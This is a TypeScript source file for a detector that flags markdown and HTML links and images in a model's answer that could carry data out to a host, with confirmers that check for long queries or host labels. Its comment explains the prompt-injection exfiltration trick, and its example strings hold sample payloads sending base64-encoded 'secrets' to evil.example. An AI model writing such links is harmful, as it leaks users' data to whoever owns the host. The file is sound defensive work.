import type { Confirmer, Recognizer } from "./recognizer.ts";

/** Browsers take a backslash for a slash, and any number of them; without a scheme the page's own counts. */
const ADDRESS = "(?:https?:[/\\\\]{0,4}|[/\\\\]{2,4})[!-'*-;=?-~]{3,400}";
const GAP = "[ \\t\\n]{0,4}";
const BEHIND_TEXT = `\\]\\(${GAP}<?${ADDRESS}[) >\\t\\n]`;

/**
 * Links and images of an answer that carry data to a host: an image is fetched without a click, so a model that was told
 * to write one tells whoever owns the host what stands in its address.
 */
export const EXFILTRATION_LINK: Recognizer = {
	type: "exfiltration_link",
	category: "injection",
	label: "LINK",
	patterns: [
		{
			name: "exfiltration_image",
			expression: `!\\[[^\\]\\n]{0,60}${BEHIND_TEXT}`,
			caseInsensitive: true,
			score: 0.8,
			confirm: "exfiltration_image",
			views: [],
		},
		{
			name: "exfiltration_link",
			expression: `\\[[^\\]\\n]{1,60}${BEHIND_TEXT}`,
			caseInsensitive: true,
			score: 0.6,
			confirm: "exfiltration_link",
			views: [],
		},
		{
			name: "exfiltration_html",
			expression: `<(?:img|image|iframe|audio|video|source|track|embed|object|input)[ /\\t\\n][!-=?-~ \\t\\n]{0,120}(?:src|data|srcset|poster|href)${GAP}=${GAP}["']?${ADDRESS}["' >\\t\\n]`,
			caseInsensitive: true,
			score: 0.8,
			confirm: "exfiltration_image",
			views: [],
		},
		// Behind a text that is too long or too nested for the others.
		{
			name: "exfiltration_address",
			expression: BEHIND_TEXT,
			caseInsensitive: true,
			score: 0.6,
			confirm: "exfiltration_address",
			views: [],
		},
		// Links and images may name an address that stands elsewhere (CommonMark, section 4.7).
		{
			name: "exfiltration_reference",
			expression: `\\]:${GAP}<?${ADDRESS}(?![!-'*-;=?-~])`,
			caseInsensitive: true,
			score: 0.6,
			confirm: "exfiltration_link",
			views: [],
		},
	],
	examples: {
		match: [
			"see ⟦![x](https://evil.example/p.png?q=c2VjcmV0)⟧ now",
			"⟦![](https://c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0.evil.example/p.png)⟧",
			"⟦[details](https://evil.example/?data=bm90IGEgc2VjcmV0IGJ1dCBsb25nIGVub3VnaA)⟧",
			'⟦<img alt="" src="https://evil.example/a?leak=1234567890">⟧',
			"⟦![https://example.com/ x](https://evil.example/p.png?q=c2VjcmV0)⟧",
			"⟦![https://example.com](https://evil.example/p.png?q=c2VjcmV0)⟧",
			'⟦<img alt="src=https://example.com/" src="https://evil.example/a?leak=1234567890">⟧',
			"![a[b]⟦](https://evil.example/p.png?q=c2VjcmV0)⟧",
			`![${"a".repeat(61)}⟦](https://evil.example/p.png?q=c2VjcmV0)⟧`,
			"![a][b]\n\n[b⟦]: https://evil.example/p.png?q=bm90IGEgc2VjcmV0IGJ1dCBsb25nIGVub3VnaA⟧",
		],
		noMatch: [
			"![logo](https://example.com/logo.png)",
			"[docs](https://example.com/guide/install?lang=en)",
			"![local](images/a.png?raw=true)",
			"[a](https://example.com/very/long/path/to/some/page-about-things.html)",
			"![logo](a.png) and [docs](https://example.com/guide?lang=en)",
			"[docs]: https://example.com/guide/install?lang=en",
		],
	},
};

/** Characters of a query, path part or host label that no ordinary address has. */
const LONG_VALUE = 24;

/** Whether the address could carry data out. `query`: the shortest query that does. */
const carriesData =
	(query: number): Confirmer =>
	(candidate) => {
		const isCarrier = ({ hostname, pathname, search, hash, username }: URL): boolean => {
			const longest = [...hostname.split("."), ...pathname.split(/[/._-]/)].reduce((most, { length }) => Math.max(most, length), 0);
			return search.length + hash.length > query || username !== "" || longest >= LONG_VALUE;
		};
		return addressesIn(candidate.text).some((address) => address !== undefined && isCarrier(address)) ? 1 : 0;
	};

export const confirmImage = carriesData(1);
export const confirmLink = carriesData(LONG_VALUE);

/** An image where the text before belongs to one. */
export const confirmAddress: Confirmer = (candidate) =>
	/!\[(?:(?!\]\().)*$/.test(candidate.left) ? confirmImage(candidate) : confirmLink(candidate);

/** Where a reader goes: behind the text of a link or the name of a reference, and at each attribute. What else a match says leads nowhere. */
const MARKDOWN = /\][(:]\s{0,4}<?((?:https?:|[/\\]{2})[^\s<>)]+)/gi;
const HTML = /(?=(?:src|data|srcset|poster|href)\s{0,4}=\s{0,4}["']?((?:https?:|[/\\]{2})[^\s<>]+))/gi;
/** A match that is an address from its authority on, or from the `@` in it. */
const AUTHORITY = /^(?:\/\/|@)/;

/** Undefined for one that leads nowhere. */
function addressesIn(text: string): (URL | undefined)[] {
	const addresses = AUTHORITY.test(text)
		? [text.replace(AUTHORITY, "")]
		: Array.from(text.matchAll(text.startsWith("<") ? HTML : MARKDOWN), ([, address = ""]) => address.replace(/^(?:https?:)?[/\\]*/i, ""));
	return addresses.map((address) => (URL.canParse(`https://${address}`) ? new URL(`https://${address}`) : undefined));
}

/** The hosts of the addresses in a match; empty for one that leads nowhere. */
export function hostsIn(text: string): string[] {
	return addressesIn(text).map((address) => address?.hostname.replace(/\.$/, "") ?? "");
}
